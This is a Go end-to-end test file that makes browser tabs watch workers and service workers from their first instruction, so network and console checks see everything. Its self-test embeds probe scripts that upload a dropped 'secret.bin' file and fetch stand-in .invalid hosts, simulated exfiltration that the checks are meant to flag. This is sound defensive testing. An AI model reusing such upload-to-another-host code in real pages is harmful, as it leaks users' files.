//go:build e2e

package e2e

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	cdpruntime "github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

// Every tab watches the targets its page starts (Web Workers, service
// workers, out-of-process frames) from their first instruction: the page's
// session auto-attaches to them with waitForDebuggerOnStart, so each new
// target waits, paused, until a recorder listens to its console, log and
// network; only then does it run. So assertClean and assertLocalOnly cover
// everything a worker does, the analysis of a dropped file included, not
// only what it does after a test looked for it.
//
// chromedp routes only the sessions it opened itself, so a paused target
// gets a second, routed session (chromedp.WithTargetID) with the recorder;
// that session enables Network, Log and Runtime and sends
// Runtime.runIfWaitingForDebugger, and the auto-attached session is
// detached: then the target runs. A paused service worker answers no
// command until it runs, so those commands are sent in order without
// waiting for their replies.

// children holds the recorders of the targets a tab watches.
type children struct {
	mu   sync.Mutex
	recs []*recorder
	errs []string
}

// add records a watched target.
func (c *children) add(r *recorder) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.recs = append(c.recs, r)
}

// fail records a target the tab could not watch.
func (c *children) fail(msg string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.errs = append(c.errs, msg)
}

// children returns the recorders of the targets watched so far, and a
// recorder of the failures to watch one.
func (tb *tab) children() []*recorder {
	c := tb.kids
	c.mu.Lock()
	defer c.mu.Unlock()
	recs := append([]*recorder(nil), c.recs...)
	if len(c.errs) > 0 {
		recs = append(recs, &recorder{name: "watcher", problems: append([]string(nil), c.errs...)})
	}
	return recs
}

// watchChildren makes the target of ctx (a page, or a worker that may
// start its own) pause every target it starts until a recorder listens to
// it.
func (tb *tab) watchChildren(ctx context.Context) error {
	if err := chromedp.Listen(ctx, func(ev any) {
		if e, ok := ev.(*target.EventAttachedToTarget); ok {
			go tb.watch(ctx, e)
		}
	}); err != nil {
		return err
	}
	_, err := chromedp.Call(ctx, target.SetAutoAttach, target.SetAutoAttachParams{
		AutoAttach: true, WaitForDebuggerOnStart: true, Flatten: ptr(true),
	})
	return err
}

func ptr[T any](v T) *T { return &v }

// watch attaches a recorder to a target that ctx's target auto-attached
// (paused when e.WaitingForDebugger), then lets it run.
func (tb *tab) watch(parent context.Context, e *target.EventAttachedToTarget) {
	info := e.TargetInfo
	rec := &recorder{name: info.Type, title: info.Title}
	tb.kids.add(rec)
	resume := func() {
		// A paused target runs once every session that holds it lets it
		// go: the recorder's (Runtime.runIfWaitingForDebugger, below) and
		// the auto-attached one, which is detached.
		chromedp.Call(parent, target.DetachFromTarget, target.DetachFromTargetParams{SessionID: e.SessionID})
	}
	ctx, cancel := chromedp.NewContext(parent, chromedp.WithTargetID(info.TargetID), chromedp.WithListener(rec.listen))
	tb.t.Cleanup(cancel)
	attached := make(chan error, 1)
	go func() { attached <- chromedp.Do(ctx) }()

	// The routed session exists once Detached stops saying ErrNoTarget.
	deadline := time.Now().Add(10 * time.Second)
	for {
		if _, err := chromedp.Detached(ctx); err == nil {
			break
		}
		select {
		case err := <-attached:
			if err != nil && !gone(err) {
				tb.kids.fail(fmt.Sprintf("cannot watch %s %s: %v", info.Type, info.URL, err))
			}
			resume()
			return
		case <-time.After(2 * time.Millisecond):
		}
		if time.Now().After(deadline) {
			tb.kids.fail(fmt.Sprintf("cannot watch %s %s: no session after 10 s", info.Type, info.URL))
			resume()
			return
		}
	}
	t := chromedp.FromContext(ctx).Target
	for _, cmd := range []struct {
		method string
		params any
	}{
		{network.CommandEnable, network.EnableParams{}},
		{cdplog.CommandEnable, cdp.Empty{}},
		{cdpruntime.CommandEnable, cdp.Empty{}},
		{cdpruntime.CommandRunIfWaitingForDebugger, cdp.Empty{}},
	} {
		// A paused service worker replies only once it runs: send the
		// command (which happens at once) and stop waiting for the reply.
		cctx, stop := context.WithTimeout(ctx, 100*time.Millisecond)
		err := t.Call(cctx, cmd.method, cmd.params, nil)
		stop()
		if err != nil && !errors.Is(err, context.DeadlineExceeded) && !gone(err) {
			tb.kids.fail(fmt.Sprintf("cannot watch %s %s: %s: %v", info.Type, info.URL, cmd.method, err))
		}
	}
	resume()
	if err := <-attached; err != nil {
		if !gone(err) {
			tb.kids.fail(fmt.Sprintf("cannot watch %s %s: %v", info.Type, info.URL, err))
		}
		return
	}
	// A worker may start workers of its own.
	if strings.HasSuffix(info.Type, "worker") || info.Type == "iframe" {
		tb.watchChildren(ctx)
	}
}

// gone reports whether err only says that the target ended (a worker that
// was terminated, a page that closed, a test that finished).
func gone(err error) bool {
	return errors.Is(err, context.Canceled) || errors.Is(err, chromedp.ErrTargetDetached) ||
		strings.Contains(err.Error(), "No target with given id") || strings.Contains(err.Error(), "target closed")
}

// requireWatched fails the test unless the tab watched a target of type
// typ ("worker", "service_worker"): a check that the page's analysis did
// run where the recorders could see it.
func (tb *tab) requireWatched(typ string) {
	tb.t.Helper()
	for _, r := range tb.children() {
		if r.name == typ {
			return
		}
	}
	tb.t.Errorf("no %s target was watched", typ)
}

// TestRecordersSeeWorkersFromTheStart is the recorders' own test: a page
// whose Web Worker fetches another host on its first line and uploads a
// dropped file while it works, and whose service worker fetches another
// host while it installs and while it answers a request. Every one of
// those requests, and the worker's first console error, must reach the
// checks that every page test runs; if the recorders attached late (as
// they once did, after the analysis) this test fails.
func TestRecordersSeeWorkersFromTheStart(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"index.html": `<!doctype html><title>probe</title><input type="file" id="f"><script>
navigator.serviceWorker.register("sw.js");
document.getElementById("f").addEventListener("change", e => {
	const w = new Worker("w.js");
	w.onmessage = m => { document.body.dataset.done = m.data; };
	w.postMessage(e.target.files[0]);
});
</script>`,
		"w.js": `console.error("worker-first-line");
fetch("http://worker-start.invalid/").catch(() => {});
onmessage = async e => {
	const data = await e.data.arrayBuffer();
	await fetch("http://upload.invalid/", {method: "POST", body: data}).catch(() => {});
	postMessage(String(data.byteLength));
};`,
		"sw.js": `self.addEventListener("install", e => e.waitUntil(fetch("http://sw-install.invalid/").catch(() => {})));
self.addEventListener("activate", e => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", e => {
	if (new URL(e.request.url).pathname === "/probe") e.respondWith(fetch("http://sw-fetch.invalid/").catch(() => new Response("offline")));
});`,
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	upload := filepath.Join(t.TempDir(), "secret.bin")
	if err := os.WriteFile(upload, []byte("file contents that must not leave"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := serveSite(t, dir, "", "no-store")
	tb := newTab(t, s)
	tb.do(chromedp.Navigate(s.URL + "/"))
	poll[bool](tb, `!!navigator.serviceWorker.controller`, 30*time.Second)
	evalJS[string](tb, `fetch("/probe").then(r => r.text())`)
	tb.uploadFile("#f", upload)
	poll[string](tb, `document.body.dataset.done`, 30*time.Second)

	got := strings.Join(localOnlyViolations(tb, s), "\n")
	for _, want := range []string{
		"worker request to another host: GET http://worker-start.invalid/",
		"worker request to another host: POST http://upload.invalid/",
		"worker request sends data: POST http://upload.invalid/",
		"service_worker request to another host: GET http://sw-install.invalid/",
		"service_worker request to another host: GET http://sw-fetch.invalid/",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("the checks missed %q; they saw:\n%s", want, got)
		}
	}
	var problems []string
	for _, r := range tb.children() {
		p, _ := r.snapshot()
		problems = append(problems, p...)
	}
	if !strings.Contains(strings.Join(problems, "\n"), "worker-first-line") {
		t.Errorf("the worker's first console error was missed: %q", problems)
	}
	tb.requireWatched("worker")
	tb.requireWatched("service_worker")
}
